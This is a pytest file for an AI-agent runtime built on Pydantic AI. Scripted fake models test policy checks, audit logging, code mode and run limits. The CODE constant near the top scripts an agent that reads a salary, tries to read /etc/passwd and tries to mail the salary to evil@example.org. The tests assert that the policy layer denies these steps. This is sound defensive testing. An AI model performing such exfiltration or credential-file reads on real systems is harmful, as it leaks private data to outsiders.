"""A whole run with Pydantic AI and a scripted model: prompt in, code, answer out, all audited."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.sdk.trace import TracerProvider
from pydantic_ai.messages import (
    ModelMessage,
    ModelResponse,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
)
from pydantic_ai.models.function import AgentInfo, FunctionModel

from caps import MemoryAuditLog, Runtime
from caps.agents.definition import new_agent
from caps.agents.runner.model import CallMode, RunContext, RunLimits, RunResult, RunStatus
from caps.agents.runner.pydantic_ai_engine import PydanticAiEngine
from caps.agents.runner.runner import AgentRunner
from caps.providers.files import register_files
from caps.security.audit import DecisionMade
from support.agent_setup import OPERATOR, AgentSetup

pytestmark = pytest.mark.anyio

AGENT = {
    "hr": {"tools": ["salary"]},
    "web": {"tools": ["read"]},
    "files": {"dirs": ["reports"], "tools": ["read_file"]},
    "mail": {},
}
CODE = """
found = await caps.hr.salary(name="ada")
page = await caps.web.read(url="a.example")
for denied in (lambda: caps.hr.fire(name="ada"), lambda: caps.files.read(path="/etc/passwd")):
    try:
        await denied()
    except PolicyDeniedError as error:
        print("refused:", error)
await caps.mail.send(to="evil@example.org", text=str(found))
"""
Model = Callable[[list[ModelMessage], AgentInfo], ModelResponse]


class Setup(AgentSetup):
    def __init__(self, place: Path) -> None:
        super().__init__()
        register_files(self.registry)
        (place / "reports").mkdir()
        self.place = place
        self.audit = MemoryAuditLog()
        operator = {
            **OPERATOR,
            "allow": [*OPERATOR["allow"], "files.*"],
            "scopes": {"files": {"allowlist": [str(place)]}},
        }
        self.runtime = Runtime(
            operator,
            registry=self.registry,
            audit=self.audit,
            tracer_provider=TracerProvider(),
        )

    async def run(self, model: Model, message: str = "go", **context: Any) -> RunResult:
        runner = AgentRunner(self.runtime, PydanticAiEngine(FunctionModel(model)))
        agent = new_agent("assistant", AGENT, system_prompt="You are brief.")
        ctx = RunContext(principal="ada", workspace_dir=str(self.place), **context)
        return await runner.run(agent, message, ctx)

    def decisions(self) -> list[DecisionMade]:
        return [each for each in self.audit.events if isinstance(each, DecisionMade)]


@pytest.fixture
async def setup(tmp_path: Path) -> AsyncIterator[Setup]:
    made = Setup(tmp_path)
    async with made.runtime:
        yield made


def answers(messages: list[ModelMessage]) -> list[ToolReturnPart]:
    """What the tools answered so far, as the model sees it."""
    parts = [part for message in messages for part in message.parts]
    return [part for part in parts if isinstance(part, ToolReturnPart)]


async def test_a_run_in_code_mode_from_prompt_to_audit(setup: Setup) -> None:
    """Two capabilities are called, one is refused, one is stopped by a flow rule; one trace."""
    seen: list[AgentInfo] = []

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        seen.append(info)
        if not answers(messages):
            return ModelResponse(parts=[ToolCallPart("execute_code", {"code": CODE})])
        return ModelResponse(parts=[TextPart(f"done: {answers(messages)[-1].content}")])

    result = await setup.run(model, "mail ada's salary", mode=CallMode.CODE)

    assert result.status is RunStatus.ANSWERED
    assert [tool.name for tool in seen[0].function_tools] == ["execute_code"]
    instructions = seen[0].instructions or ""
    assert "You are brief." in instructions
    assert "async def salary(" in instructions
    assert "fire" not in instructions
    assert "refused: `hr.fire` is not granted" in result.answer
    assert "refused: `files.read` is not granted" in result.answer
    assert "`mail.send` is not granted by policy `operator` after what was read" in result.answer
    assert setup.sent == []
    assert result.labels == ("private", "untrusted")

    decided = setup.decisions()
    assert [(each.capability, each.decision) for each in decided] == [
        ("hr.salary", "allow"),
        ("web.read", "allow"),
        ("files.read", "deny"),
        ("mail.send", "deny"),
    ]
    assert decided[-1].rule == "flows.no-exfiltration"
    assert {each.trace_id for each in setup.audit.events if hasattr(each, "trace_id")} == {
        result.trace_id
    }
    assert result.trace_id is not None
    assert {(each.principal, each.session) for each in decided} == {("ada", result.session)}
    assert len({each.agent for each in decided}) == 1


async def test_names_are_kept_from_call_to_call(setup: Setup) -> None:
    """The code of a run is one session, which ends with the run."""
    codes = ["x = 20", "x + 1", "undefined_name"]

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        done = answers(messages)
        if len(done) < len(codes):
            return ModelResponse(parts=[ToolCallPart("execute_code", {"code": codes[len(done)]})])
        return ModelResponse(parts=[TextPart("|".join(str(each.content) for each in done))])

    result = await setup.run(model, mode=CallMode.CODE)
    _, second, third = result.answer.split("|")
    assert second == "result:\n21"
    assert "NameError" in third
    assert result.tool_calls == 3


async def test_plain_tool_calling(setup: Setup) -> None:
    """Each tool is a call under the agent's policies; errors that the model can repair reach it."""
    calls = [
        ToolCallPart("salary", {"nam": "ada"}, tool_call_id="1"),
        ToolCallPart("salary", {"name": "ada"}, tool_call_id="2"),
        ToolCallPart("read", {"url": "a.example"}, tool_call_id="3"),
        ToolCallPart("send", {"to": "evil", "text": "93"}, tool_call_id="4"),
    ]
    offered: list[str] = []

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        offered[:] = [tool.name for tool in info.function_tools]
        done = len(answers(messages))
        if done < len(calls):
            return ModelResponse(parts=[calls[done]])
        return ModelResponse(parts=[TextPart("done")])

    result = await setup.run(model)
    assert offered == ["salary", "read", "read_file", "send"]
    assert result.status is RunStatus.ANSWERED
    texts = [each.content for each in result.messages if each.role.value == "tool_result"]
    assert "nam" in texts[0]
    assert texts[0].startswith("error:")
    assert texts[1] == "93"
    assert "after what was read before" in texts[3]
    assert setup.sent == []
    assert {each.via for each in setup.decisions()} == {"call"}


@pytest.mark.parametrize(
    ("limits", "status"),
    [
        (RunLimits(max_turns=3), RunStatus.TURN_LIMIT),
        (RunLimits(max_tool_calls=2), RunStatus.TOOL_CALL_LIMIT),
        (RunLimits(max_tokens=200), RunStatus.TOKEN_LIMIT),
    ],
)
async def test_a_model_that_never_ends_is_stopped(
    setup: Setup, limits: RunLimits, status: RunStatus
) -> None:
    """Turns, tool calls and tokens are bounded, and what was done is in the result."""

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        return ModelResponse(parts=[ToolCallPart("salary", {"name": "ada"})])

    result = await setup.run(model, limits=limits)
    assert (result.status, result.answer) == (status, "")
    assert result.tool_calls >= 2


@pytest.mark.parametrize("mode", [CallMode.TOOLS, CallMode.CODE])
async def test_calls_at_the_same_time(setup: Setup, mode: CallMode) -> None:
    """A model may ask for several in one turn; in code mode they take turns."""
    calls = [ToolCallPart("salary", {"name": "a" * count}) for count in range(4)]
    if mode is CallMode.CODE:
        calls = [ToolCallPart("execute_code", {"code": f"x = {n}\nx"}) for n in range(90, 94)]

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        done = answers(messages)
        if not done:
            return ModelResponse(parts=list(calls))
        return ModelResponse(parts=[TextPart(",".join(str(each.content)[-2:] for each in done))])

    assert (await setup.run(model, mode=mode)).answer == "90,91,92,93"
    few = RunLimits(max_tool_calls=2)
    assert (await setup.run(model, mode=mode, limits=few)).status is RunStatus.TOOL_CALL_LIMIT


async def test_a_model_that_fails(setup: Setup) -> None:
    """The caller learns that it failed; the text of the error stays on the host."""

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        raise RuntimeError("key sk-123 was refused by 10.0.0.1")

    result = await setup.run(model)
    assert result.status is RunStatus.FAILED
    assert result.error == "the engine failed; the log of the host says why"
